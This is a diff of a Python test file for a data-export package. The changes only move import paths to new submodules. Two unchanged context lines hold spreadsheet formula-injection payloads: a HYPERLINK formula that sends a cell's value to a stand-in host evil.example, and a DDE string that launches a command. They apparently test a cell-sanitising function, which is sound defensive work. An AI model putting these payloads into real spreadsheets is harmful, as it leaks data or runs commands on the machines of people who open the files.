@@ -27,13 +27,13 @@ from pathlib import Path
 import frictionless
 import pytest
 
-from shafaf import registry as registry_module
-from shafaf import tables
-from shafaf.datadir import DataDir
-from shafaf.exports import ExportError, Manifest, package_schema, read_manifest, write_exports
-from shafaf.harvest import harvest
-from shafaf.publish import publish
-from shafaf.spreadsheet import safe_cell
+from shafaf.config import registry as registry_module
+from shafaf.standard import tables
+from shafaf.core.datadir import DataDir
+from shafaf.publish.exports import ExportError, Manifest, package_schema, read_manifest, write_exports
+from shafaf.harvest.runner import harvest
+from shafaf.publish.writer import publish
+from shafaf.publish.spreadsheet import safe_cell
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
 DDE = "+cmd|' /C calc'!A0"
@@ -295,8 +295,8 @@ def test_export_without_a_published_database_fails_clearly(data, reg):
 KILLED_EXPORT = textwrap.dedent("""\
     import sys
     from pathlib import Path
-    from shafaf import registry
-    from shafaf.exports import write_exports
+    from shafaf.config import registry
+    from shafaf.publish.exports import write_exports
     write_exports(Path(sys.argv[1]), Path(sys.argv[2]), registry=registry.load(sys.argv[3]))
 """)
 
